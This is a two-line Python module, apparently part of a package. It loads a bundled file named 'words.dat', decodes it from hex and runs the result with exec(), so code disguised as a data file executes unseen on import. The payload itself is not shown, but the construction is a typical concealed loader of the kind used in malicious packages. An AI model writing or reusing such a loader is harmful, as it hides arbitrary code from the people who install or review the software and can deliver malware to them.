import importlib.resources as resources
exec(bytes.fromhex(resources.files(__package__).joinpath('words.dat').read_text()))
